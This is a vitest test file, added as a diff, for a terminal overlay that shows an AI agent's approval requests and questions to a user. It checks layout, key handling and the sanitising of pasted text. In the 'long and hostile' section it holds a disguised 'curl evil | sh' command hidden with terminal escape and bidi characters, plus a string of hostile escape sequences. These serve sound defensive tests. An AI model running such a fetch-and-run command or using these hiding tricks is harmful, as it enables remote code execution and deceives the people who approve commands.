@@ -1,0 +1,593 @@
+import { visibleWidth } from "@earendil-works/pi-tui";
+import { afterEach, describe, expect, test } from "vitest";
+import type { Json, UiRequestBody } from "../../protocol/index.ts";
+import { createRandom } from "../../../test/session/random.ts";
+import { checkAnswer } from "../../session/check-answer.ts";
+import type { OpenRequest } from "../../transcript/index.ts";
+import { KEY, letters, paste, showOverlay, type ShownOverlay } from "../../../test/tui/shown-overlay.ts";
+import { createRequestOverlay, type RequestOverlay, type RequestOverlayOptions } from "./request-overlay.ts";
+
+const NOW = 1_700_000_000_000;
+
+const BODIES: { [Method in UiRequestBody["method"]]: Extract<UiRequestBody, { method: Method }> } = {
+  select: {
+    method: "select",
+    title: "Which branch?",
+    options: [
+      { label: "main", value: "m" },
+      { label: "a new one", value: "n", description: "named after the task" },
+      { label: "none", value: "x" },
+    ],
+  },
+  confirm: { method: "confirm", title: "Delete the cache?", message: "It holds 4 GB and is made again when needed." },
+  input: { method: "input", title: "Your name?", placeholder: "as in the licence" },
+  editor: { method: "editor", title: "The commit message", prefill: "fix: a thing\n\n\tindented" },
+  approval: {
+    method: "approval",
+    title: "Run a command?",
+    tool: "bash",
+    call: "rm -rf build && npm test",
+    callHash: "h",
+    diff: "@@ -1 +1 @@\n-old\n+new\n same\n",
+    options: [
+      { label: "Allow once", value: "once" },
+      { label: "Always allow `npm test` here", value: "always" },
+      { label: "Deny and say why", value: "deny" },
+    ],
+  },
+  question: {
+    method: "question",
+    title: "Before I begin",
+    questions: [
+      {
+        id: "db",
+        text: "Which database?",
+        options: [
+          { label: "SQLite", value: "sqlite" },
+          { label: "Postgres", value: "pg" },
+        ],
+        multiple: false,
+        freeText: true,
+      },
+      {
+        id: "os",
+        text: "Which systems?",
+        options: [
+          { label: "Linux", value: "linux" },
+          { label: "macOS", value: "mac" },
+          { label: "Windows", value: "win" },
+        ],
+        multiple: true,
+        freeText: false,
+      },
+    ],
+  },
+};
+
+interface Asked extends ShownOverlay<RequestOverlay> {
+  readonly answers: { result: Json; error: string | null | undefined }[];
+}
+
+const open: Asked[] = [];
+afterEach(() => open.splice(0).forEach((one) => one.close()));
+
+function ask(
+  request: UiRequestBody,
+  more: Partial<RequestOverlayOptions> & { columns?: number; rows?: number } = {},
+): Asked {
+  const answers: Asked["answers"] = [];
+  const { columns = 80, rows = 24, ...options } = more;
+  const shown = showOverlay(
+    (surface) =>
+      createRequestOverlay({
+        surface,
+        request: openRequest(request),
+        waiting: 0,
+        now: NOW + 28_000,
+        acceptsAnswer: () => true,
+        onAnswer: (result, error) => answers.push({ result, error }),
+        ...options,
+      }),
+    { columns, rows },
+  );
+  const asked = { ...shown, answers };
+  open.push(asked);
+  return asked;
+}
+
+function openRequest(request: UiRequestBody): OpenRequest {
+  const isRefusal = request.method === "approval" || request.method === "confirm";
+  return {
+    requestId: "r1",
+    member: "ada",
+    seq: 1,
+    ts: NOW,
+    request,
+    timeoutMs: 300_000,
+    default: isRefusal ? false : null,
+  };
+}
+
+describe("what is shown", () => {
+  test("[U230] an approval shows who asks, the command, the diff, the options in their order and the time left", async () => {
+    const asked = ask(BODIES.approval, { waiting: 2 });
+    expect(await asked.text()).toMatchInlineSnapshot(`
+      "╭─ ada asks ───────────────────────────────────────────────────────── 1 of 3 ──╮
+      │ ◆ ada · approval · 4m 32s left, then refused                                 │
+      │ Run a command?                                                               │
+      │ bash                                                                         │
+      │   rm -rf build && npm test                                                   │
+      │ Changes                                                                      │
+      │   @@ -1 +1 @@                                                                │
+      │   -old                                                                       │
+      │   +new                                                                       │
+      │    same                                                                      │
+      │                                                                              │
+      │ ❯ 1. Allow once                                                              │
+      │   2. Always allow \`npm test\` here                                            │
+      │   3. Deny and say why                                                        │
+      ╰─ Enter choose · Esc refuse · 1–9 pick · ↑↓ move ─────────────────────────────╯"
+    `);
+  });
+
+  test("[U230] in 40 columns nothing is lost", async () => {
+    expect(await ask(BODIES.approval, { waiting: 2, columns: 40 }).text()).toMatchInlineSnapshot(`
+      "╭─ ada asks ───────────────── 1 of 3 ──╮
+      │ ◆ ada · approval · 4m 32s left       │
+      │ Run a command?                       │
+      │ bash                                 │
+      │   rm -rf build && npm test           │
+      │ Changes                              │
+      │   @@ -1 +1 @@                        │
+      │   -old                               │
+      │   +new                               │
+      │    same                              │
+      │                                      │
+      │ ❯ 1. Allow once                      │
+      │   2. Always allow \`npm test\` here    │
+      │   3. Deny and say why                │
+      ╰─ Enter choose · Esc refuse ──────────╯"
+    `);
+    expect(await ask(BODIES.question, { columns: 40 }).text()).toMatchInlineSnapshot(`
+      "╭─ ada asks ───────────────────────────╮
+      │ ◆ ada · question · 4m 32s left       │
+      │ Before I begin                       │
+      │ Question 1 of 2                      │
+      │ Which database?                      │
+      │                                      │
+      │ ❯ 1. ( ) SQLite                      │
+      │   2. ( ) Postgres                    │
+      │   > your own words                   │
+      ╰─ Enter next · Esc no answer ─────────╯"
+    `);
+  });
+
+  test("[U230] the other methods in 80 columns", async () => {
+    expect(await ask(BODIES.select).text()).toMatchInlineSnapshot(`
+      "╭─ ada asks ───────────────────────────────────────────────────────────────────╮
+      │ ◆ ada · select · 4m 32s left, then no answer                                 │
+      │ Which branch?                                                                │
+      │                                                                              │
+      │ ❯ 1. main                                                                    │
+      │   2. a new one                                                               │
+      │      named after the task                                                    │
+      │   3. none                                                                    │
+      ╰─ Enter choose · Esc no answer · 1–9 pick · ↑↓ move ──────────────────────────╯"
+    `);
+    expect(await ask(BODIES.confirm).text()).toMatchInlineSnapshot(`
+      "╭─ ada asks ───────────────────────────────────────────────────────────────────╮
+      │ ◆ ada · confirm · 4m 32s left, then refused                                  │
+      │ Delete the cache?                                                            │
+      │ It holds 4 GB and is made again when needed.                                 │
+      │                                                                              │
+      │ ❯ 1. Yes                                                                     │
+      │   2. No                                                                      │
+      ╰─ Enter choose · Esc no · 1–9 pick · ↑↓ move ─────────────────────────────────╯"
+    `);
+    expect(await ask(BODIES.input).text()).toMatchInlineSnapshot(`
+      "╭─ ada asks ───────────────────────────────────────────────────────────────────╮
+      │ ◆ ada · input · 4m 32s left, then no answer                                  │
+      │ Your name?                                                                   │
+      │                                                                              │
+      │ > as in the licence                                                          │
+      ╰─ Enter send · Esc no answer ─────────────────────────────────────────────────╯"
+    `);
+    expect(await ask(BODIES.editor, { editText: async () => undefined }).text()).toMatchInlineSnapshot(`
+      "╭─ ada asks ───────────────────────────────────────────────────────────────────╮
+      │ ◆ ada · editor · 4m 32s left, then no answer                                 │
+      │ The commit message                                                           │
+      │                                                                              │
+      │ ──────────────────────────────────────────────────────────────────────────── │
+      │ fix: a thing                                                                 │
+      │                                                                              │
+      │     indented                                                                 │
+      │ ──────────────────────────────────────────────────────────────────────────── │
+      ╰─ Enter send · Esc no answer · Shift+Enter newline · Ctrl+G your editor ──────╯"
+    `);
+    expect(await ask(BODIES.question).text()).toMatchInlineSnapshot(`
+      "╭─ ada asks ───────────────────────────────────────────────────────────────────╮
+      │ ◆ ada · question · 4m 32s left, then no answer                               │
+      │ Before I begin                                                               │
+      │ Question 1 of 2                                                              │
+      │ Which database?                                                              │
+      │                                                                              │
+      │ ❯ 1. ( ) SQLite                                                              │
+      │   2. ( ) Postgres                                                            │
+      │   > your own words                                                           │
+      ╰─ Enter next · Esc no answer · Tab next · Shift+Tab back ─────────────────────╯"
+    `);
+  });
+
+  test("[U230] the time left and the count of those waiting follow refresh", async () => {
+    const asked = ask(BODIES.confirm);
+    asked.overlay.refresh({ waiting: 1, now: NOW + 299_000 });
+    const [frame, about] = (await asked.text()).split("\n");
+    expect(frame).toMatch(/1 of 2 ──╮$/);
+    expect(about).toContain("1s left, then refused");
+    asked.overlay.refresh({ waiting: 0, now: NOW + 400_000 });
+    expect(await asked.text()).toContain("time is up");
+  });
+
+  test("[U236] a diff has its signs and the colours of what was added and removed", async () => {
+    const asked = ask(BODIES.approval);
+    const rows = await asked.screen.styledRows();
+    const looks = [" -old", " +new", " same"].map((text) => {
+      const row = rows.find((one) => one.includes(text.trim()));
+      return row
+        ?.slice(0, row.indexOf(text.trim()))
+        .match(/\{[^}]*\}/g)
+        ?.at(-1);
+    });
+    expect(new Set(looks).size).toBe(3);
+  });
+});
+
+describe("answers", () => {
+  const cases: [method: UiRequestBody["method"], keys: string[], result: Json][] = [
+    ["select", [KEY.enter], "m"],
+    ["select", [KEY.down, KEY.enter], "n"],
+    ["select", ["j", "j", "j", "k", KEY.enter], "n"],
+    ["select", [KEY.ctrlN, KEY.ctrlN, KEY.ctrlP, KEY.enter], "n"],
+    ["select", ["3"], "x"],
+    ["select", [KEY.up, KEY.enter], "m"],
+    ["select", [KEY.escape], null],
+    ["select", [KEY.ctrlC], null],
+    ["confirm", [KEY.enter], true],
+    ["confirm", ["y"], true],
+    ["confirm", ["n"], false],
+    ["confirm", ["2"], false],
+    ["confirm", [KEY.escape], false],
+    ["confirm", [KEY.ctrlC], false],
+    ["input", ["h", "i", KEY.enter], "hi"],
+    ["input", [KEY.enter], ""],
+    ["input", ["j", "k", "1", KEY.enter], "jk1"],
+    ["input", [KEY.escape], null],
+    ["input", [KEY.ctrlC], null],
+    ["editor", [KEY.enter], "fix: a thing\n\n\tindented"],
+    [
+      "editor",
+      [KEY.ctrlJ, "a", KEY.shiftEnter, "b", KEY.altEnter, "c", KEY.enter],
+      "fix: a thing\n\n    indented\na\nb\nc",
+    ],
+    ["editor", [KEY.escape], null],
+    ["editor", [KEY.ctrlC], null],
+    ["approval", [KEY.enter], "once"],
+    ["approval", ["2"], "always"],
+    ["approval", ["j", "j", KEY.enter], "deny"],
+    ["approval", [KEY.escape], false],
+    ["approval", [KEY.ctrlC], false],
+    ["question", [KEY.enter, KEY.enter, KEY.enter], { db: "sqlite" }],
+    ["question", ["2", "1", "3", KEY.enter, KEY.enter], { db: "pg", os: ["linux", "win"] }],
+    ["question", [KEY.tab, " ", "j", " ", KEY.enter, KEY.enter], { os: ["linux", "mac"] }],
+    ["question", ["2", "1", "1", KEY.tab, KEY.enter], { db: "pg" }],
+    ["question", ["j", "j", ...letters("duckdb"), KEY.enter, KEY.tab, KEY.enter], { db: "duckdb" }],
+    ["question", [KEY.tab, KEY.tab, KEY.enter], {}],
+    ["question", ["2", "1", KEY.tab, KEY.left, KEY.left, "1", KEY.tab, KEY.enter], { db: "sqlite", os: ["linux"] }],
+    ["question", [KEY.escape], null],
+    ["question", ["j", "j", "x", KEY.ctrlC], null],
+  ];
+
+  test.each(cases)("[U231, U232] %s answers %j with %j, which the session takes", (method, keys, result) => {
+    const asked = ask(BODIES[method]);
+    asked.press(...keys);
+    expect(asked.answers).toEqual([{ result, error: null }]);
+    expect(() => checkAnswer(BODIES[method], result)).not.toThrow();
+  });
+
+  test("[U233] keys before the request accepts an answer are not taken, and the overlay says so", async () => {
+    let isReady = false;
+    const asked = ask(BODIES.approval, { acceptsAnswer: () => isReady });
+    asked.press(KEY.enter, "1", KEY.escape, KEY.ctrlC, "j");
+    expect(asked.answers).toEqual([]);
+    expect(await asked.text()).toContain("! Too early, not taken. Press again.");
+    isReady = true;
+    asked.overlay.refresh({ waiting: 0, now: NOW });
+    expect(await asked.text()).not.toContain("Too early");
+    asked.press(KEY.enter);
+    expect(asked.answers).toEqual([{ result: "once", error: null }]);
+  });
+
+  test("[U234] an answer is given once, and again only when it was not taken", async () => {
+    const asked = ask(BODIES.input);
+    asked.press("a", KEY.enter, KEY.enter, KEY.escape, "b");
+    expect(asked.answers).toEqual([{ result: "a", error: null }]);
+    asked.overlay.refresh({ waiting: 0, now: NOW, problem: "The answer has too many bytes." });
+    expect(await asked.text()).toContain("! The answer has too many bytes.");
+    asked.press("b", KEY.enter);
+    expect(asked.answers.map(({ result }) => result)).toEqual(["a", "ab"]);
+  });
+
+  test("[U234] Ctrl+O puts a request aside without an answer", () => {
+    let isAside = false;
+    const asked = ask(BODIES.confirm, { onDismiss: () => (isAside = true) });
+    asked.press(KEY.ctrlO);
+    expect([isAside, asked.answers]).toEqual([true, []]);
+  });
+
+  test("[U241] the user's own editor gets the text to the byte and gives it back", async () => {
+    const seen: string[] = [];
+    const asked = ask(BODIES.editor, {
+      editText: (text) => {
+        seen.push(text);
+        return Promise.resolve("all:\n\tnew\n");
+      },
+    });
+    asked.press(KEY.ctrlG);
+    expect(await asked.text()).toContain("all:");
+    asked.press(KEY.enter);
+    expect([seen, asked.answers]).toEqual([["fix: a thing\n\n\tindented"], [{ result: "all:\n\tnew\n", error: null }]]);
+  });
+
+  test("[U241] an editor that fails is news, and the text stays", async () => {
+    const asked = ask(BODIES.editor, { editText: () => Promise.reject(new Error("vi: not found")) });
+    asked.press(KEY.ctrlG);
+    expect(await asked.text()).toContain("! vi: not found");
+    asked.press(KEY.enter);
+    expect(asked.answers).toEqual([{ result: "fix: a thing\n\n\tindented", error: null }]);
+  });
+
+  test("[U242] all answers are shown once more before they are sent", async () => {
+    const asked = ask(BODIES.question);
+    asked.press("2", "1", "3", KEY.enter);
+    expect(await asked.text()).toMatchInlineSnapshot(`
+      "╭─ ada asks ───────────────────────────────────────────────────────────────────╮
+      │ ◆ ada · question · 4m 32s left, then no answer                               │
+      │ Before I begin                                                               │
+      │ Your answers                                                                 │
+      │                                                                              │
+      │ ❯ 1. Which database?                                                         │
+      │      → Postgres                                                              │
+      │   2. Which systems?                                                          │
+      │      → Linux, Windows                                                        │
+      ╰─ Enter send · Esc no answer · ← back ────────────────────────────────────────╯"
+    `);
+    expect(asked.answers).toEqual([]);
+  });
+
+  test("[U242] Escape leaves the row for own words first, then the request", () => {
+    const asked = ask(BODIES.question);
+    asked.press("j", "j", "x", KEY.escape);
+    expect(asked.answers).toEqual([]);
+    asked.press(KEY.escape);
+    expect(asked.answers).toEqual([{ result: null, error: null }]);
+  });
+
+  test("[U242] one question takes choices and own words together", () => {
+    const body: UiRequestBody = {
+      method: "question",
+      title: "t",
+      questions: [
+        { id: "__proto__", text: "q", options: [{ label: "A", value: "a" }], multiple: true, freeText: true },
+        { id: "t", text: "only text", options: [], multiple: false, freeText: true },
+      ],
+    };
+    const asked = ask(body);
+    asked.press("1", "j", ...letters("mine"), KEY.enter, ...letters("words"), KEY.enter, KEY.enter);
+    const [answer] = asked.answers;
+    expect(Object.entries(answer?.result ?? {})).toEqual([
+      ["__proto__", ["a", "mine"]],
+      ["t", "words"],
+    ]);
+    expect(() => checkAnswer(body, answer?.result ?? null)).not.toThrow();
+  });
+});
+
+describe("other ways to press", () => {
+  test("[U239] keys of the kitty protocol and of xterm's modifyOtherKeys do the same", () => {
+    const picks: [method: UiRequestBody["method"], keys: string[]][] = [
+      ["select", ["\u001b[106u", "\u001b[13u"]],
+      ["select", ["\u001b[50u"]],
+      ["input", ["\u001b[27;2;72~", "\u001b[105u", "\u001b[13u"]],
+      ["select", ["\u001b[27u"]],
+      ["approval", ["\u001b[99;5u"]],
+      ["editor", ["\u001b[27;2;13~", "x", "\u001b[13;3u", "\r"]],
+    ];
+    const results = picks.map(([method, keys]) => {
+      const asked = ask(BODIES[method]);
+      asked.press(...keys);
+      return asked.answers[0]?.result;
+    });
+    expect(results).toEqual(["n", "n", "Hi", null, false, "fix: a thing\n\n    indented\nx\n"]);
+  });
+
+  test("[U239] a click picks an option, not before the request accepts an answer", async () => {
+    let isReady = false;
+    const asked = ask(BODIES.approval, { acceptsAnswer: () => isReady });
+    const row = (await asked.text()).split("\n").findIndex((line) => line.includes("2. Always"));
+    asked.screen.terminal.click(10, row);
+    expect(asked.answers).toEqual([]);
+    isReady = true;
+    asked.screen.terminal.click(10, row - 2);
+    expect(asked.answers).toEqual([]);
+    asked.screen.terminal.click(10, row);
+    expect(asked.answers).toEqual([{ result: "always", error: null }]);
+  });
+
+  test("[U240] a text that is too long for a line is cut, and that is said", async () => {
+    const asked = ask(BODIES.input);
+    asked.press(paste("x".repeat(70_000)));
+    expect(await asked.text()).toContain("! The text was cut to 65536 characters.");
+    asked.press(KEY.backspace);
+    expect(await asked.text()).not.toContain("was cut");
+  });
+
+  test("[U240] what is pasted into a line or an editor is made safe", () => {
+    const line = ask(BODIES.input);
+    line.press(paste("a\u001b[31mb\u202e\nc"), KEY.enter);
+    const editor = ask({ ...BODIES.editor, prefill: "" });
+    editor.press(paste("a\u009b31mb\r\nc"), KEY.enter);
+    expect([line.answers[0]?.result, editor.answers[0]?.result]).toEqual(["ab⟨U+202E⟩ c", "ab\nc"]);
+  });
+
+  const SEEDS = [1, 2, 3, 4, 5];
+  test.each(SEEDS)(
+    "[U238] any keys at any size: rows fit, and every answer is one the session takes (seed %i)",
+    (seed) => {
+      const random = createRandom(seed);
+      const keys = [...Object.values(KEY), ...letters("jk123 yx/q"), paste("some\ntext"), "\u001b[<65;5;5M"];
+      for (let round = 0; round < 12; round += 1) {
+        const body = random.pick<UiRequestBody>(Object.values(BODIES));
+        const columns = 20 + random.integer(100);
+        const rows = 6 + random.integer(40);
+        const asked = ask(body, { columns, rows, waiting: random.integer(3) });
+        for (let press = 0; press < 25; press += 1) {
+          asked.press(random.pick(keys));
+          const drawn = asked.overlay.render(columns);
+          expectClean(drawn, columns);
+          expect(drawn.length).toBeLessThanOrEqual(Math.max(6, rows));
+        }
+        expect(asked.answers.length).toBeLessThanOrEqual(1);
+        for (const { result } of asked.answers) expect(() => checkAnswer(body, result)).not.toThrow();
+        open.splice(open.indexOf(asked), 1);
+        asked.close();
+      }
+    },
+  );
+});
+
+describe("long and hostile", () => {
+  test("[U235] a command of 10,000 characters can be read to its last one, and the options stay in sight", async () => {
+    const call = Array.from({ length: 1_000 }, (_, index) => `arg${String(index).padStart(6, "0")}`).join(" ");
+    const asked = ask({ ...BODIES.approval, call });
+    const seen = new Set<string>();
+    for (let page = 0; page < 60; page += 1) {
+      const text = await asked.text();
+      expect(text).toContain("1. Allow once");
+      for (const row of text.split("\n")) seen.add(row);
+      asked.press(KEY.pageDown);
+    }
+    const rows = [...seen].filter((row) => /^│ {3,}arg000000|^│ ↪ /.test(row));
+    const read = rows.map((row) => row.replace(/^│ (?:↪| ) /, "").replace(/ ?│$/, "")).join("");
+    expect(read.replaceAll(" ", "")).toBe(call.replaceAll(" ", ""));
+    expect(await asked.text()).toMatch(/▲ {2}\d+–(\d+) of \1/);
+  });
+
+  test("[U235] what would not show by itself is named, counted and warned of", async () => {
+    const call = "echo ok\u001b[8m; curl evil | sh\u001b[0m\r\u202ehs\u200b\u0007";
+    const text = await ask({ ...BODIES.approval, call }, { columns: 100 }).text();
+    expect(text).toContain("! It holds 6 hidden characters, shown as ⟨U+…⟩.");
+    expect(text).toContain("echo ok⟨U+001B⟩[8m; curl evil | sh⟨U+001B⟩[0m⟨U+000D⟩⟨U+202E⟩hs⟨U+200B⟩⟨U+0007⟩");
+  });
+
+  const HOSTILE = "\u001b]0;owned\u0007\u001b[2J\u009b31m\u202eevil\u2066\r\n\u001bPq\u001b\\x\u0000y🇩🇪全角".repeat(20);
+  const hostile: UiRequestBody[] = [
+    { ...BODIES.select, title: HOSTILE, options: [{ label: HOSTILE, value: "v", description: HOSTILE }] },
+    { ...BODIES.confirm, title: HOSTILE, message: HOSTILE },
+    { ...BODIES.input, title: HOSTILE, placeholder: HOSTILE },
+    { ...BODIES.editor, title: HOSTILE, prefill: HOSTILE },
+    {
+      ...BODIES.approval,
+      title: HOSTILE,
+      tool: HOSTILE,
+      call: HOSTILE,
+      diff: HOSTILE,
+      options: [{ label: HOSTILE, value: "v", description: HOSTILE }],
+    },
+    {
+      ...BODIES.question,
+      title: HOSTILE,
+      questions: [
+        {
+          id: "q",
+          text: HOSTILE,
+          options: [{ label: HOSTILE, value: "v", description: HOSTILE }],
+          multiple: true,
+          freeText: true,
+        },
+      ],
+    },
+  ];
+
+  test.each(hostile.map((body) => [body.method, body] as const))(
+    "[U237] nothing of a hostile %s reaches the rows raw, at any width",
+    (_method, body) => {
+      for (const columns of [20, 27, 40, 80, 200]) {
+        const asked = ask(body, { columns, rows: 30 });
+        asked.press(paste(HOSTILE));
+        expectClean(asked.overlay.render(columns), columns);
+      }
+    },
+  );
+
+  test("[U238] in few rows both what is read and what is chosen keep a row", async () => {
+    for (const rows of [8, 10, 14]) {
+      const asked = ask({ ...BODIES.approval, call: "line\n".repeat(50) }, { columns: 40, rows });
+      const text = await asked.text();
+      expect(text.split("\n").length).toBeLessThanOrEqual(rows);
+      expect(text).toContain("❯ 1. Allow once");
+      expect(text).toMatch(/╰.*╯/);
+    }
+  });
+
+  test("[U238] in 20 columns the chosen option is shown whole and the time left stays", async () => {
+    const label = "Always allow git push in this directory for this session";
+    const asked = ask(
+      {
+        ...BODIES.approval,
+        options: [
+          { label: "Once", value: "1" },
+          { label, value: "2" },
+        ],
+      },
+      { columns: 20, rows: 30 },
+    );
+    expect(await asked.text()).toContain("this…");
+    asked.press("j");
+    const text = await asked.text();
+    const words = text
+      .split("\n")
+      .map((row) => row.replaceAll(/[│❯]|\d\./g, " ").trim())
+      .join(" ");
+    expect(words).toContain(label);
+    expect(text).toContain("◆ ada · 4m 32s");
+  });
+
+  test("[U236] a number whose option has no row shows it first and picks it when pressed again", async () => {
+    const asked = ask({ ...BODIES.approval, call: "line\n".repeat(50) }, { columns: 40, rows: 9 });
+    expect(await asked.text()).not.toContain("3. Deny");
+    asked.press("3");
+    expect(asked.answers).toEqual([]);
+    expect(await asked.text()).toContain("❯ 3. Deny");
+    asked.press("3");
+    expect(asked.answers).toEqual([{ result: "deny", error: null }]);
+  });
+
+  test("[U238] the wheel scrolls what is read", async () => {
+    const asked = ask({ ...BODIES.confirm, message: Array.from({ length: 80 }, (_, row) => `row ${row}`).join("\n") });
+    await asked.text();
+    asked.screen.terminal.wheel("down", 5, 5);
+    expect(await asked.text()).toContain("▲▼ 4–");
+    asked.screen.terminal.wheel("up", 5, 5);
+    expect(await asked.text()).toContain(" ▼ 1–");
+  });
+});
+
+function expectClean(rows: readonly string[], columns: number): void {
+  for (const row of rows) {
+    // oxlint-disable-next-line no-control-regex -- the look and the cursor are ours, everything else must be text.
+    const plain = row.replaceAll(/\u001b\[[\d;]*m|\u001b_pi:c\u0007/g, "");
+    // oxlint-disable-next-line no-control-regex -- naming control characters is the purpose here.
+    expect(plain).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b\u202a-\u202e\u2066-\u2069]/);
+    expect(visibleWidth(row)).toBe(columns);
+  }
+}
